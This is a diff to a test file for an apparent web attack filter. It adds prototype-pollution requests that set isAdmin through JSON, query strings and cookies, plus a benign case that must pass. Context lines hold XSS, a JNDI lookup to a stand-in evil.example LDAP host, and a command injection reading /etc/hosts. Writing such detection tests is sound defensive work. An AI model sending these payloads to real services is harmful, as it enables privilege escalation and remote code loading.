@@ -38,6 +38,13 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     ["xss", send("GET", "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1")],
     ["jndi", send("GET", "/search?${jndi:ldap://evil.example/a}")],
     ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["a%3Bcat%20%2Fetc%2Fhosts=1"])],
+    // Prototype pollution: JSON keys, query names, a path in a value, a cookie.
+    ["prototype_pollution", send("PATCH", "/settings", json, ['{"theme":"dark","__proto__":{"isAdmin":true}}'])],
+    ["prototype_pollution", send("PATCH", "/settings", json, ['{"constructor":{"prototype":{"isAdmin":true}}}'])],
+    ["prototype_pollution", send("GET", "/items?__proto__[isAdmin]=1")],
+    ["prototype_pollution", send("GET", "/items?constructor%5Bprototype%5D%5BisAdmin%5D=1")],
+    ["prototype_pollution", send("POST", "/settings", json, ['{"path":"__proto__.isAdmin","value":true}'])],
+    ["prototype_pollution", send("GET", "/", [["cookie", "prefs=__proto__.foo=bar"]])],
   ];
   for (const [cls, pending] of cases) {
     const r = await pending;
@@ -53,6 +60,8 @@ test("prose and normal API calls pass", async () => {
     await send("POST", "/reviews", json, ['{"author":"O\'Brien","text":"I\'d rate it 4 or 5 stars. Use ```sql SELECT 1``` to test."}']),
     await send("GET", "/products/42?sort=price&order=asc"),
     await send("POST", "/links", json, ['{"url":"https://www.example.com/docs/page?id=7"}']),
+    // Objects that describe constructors and prototypes, words about them.
+    await send("POST", "/docs", json, ['{"constructor":{"name":"Point","params":["x","y"]},"prototype":{"methods":["norm"]},"text":"A constructor sets up the prototype chain."}']),
     // A Referer is the page the client came from: a developer's localhost, a PHP shop page.
     await send("GET", "/api/cart", [["referer", "http://localhost:3000/checkout"]]),
     await send("GET", "/api/cart", [["referer", "https://shop.example.com/cart.php?id=3"]]),
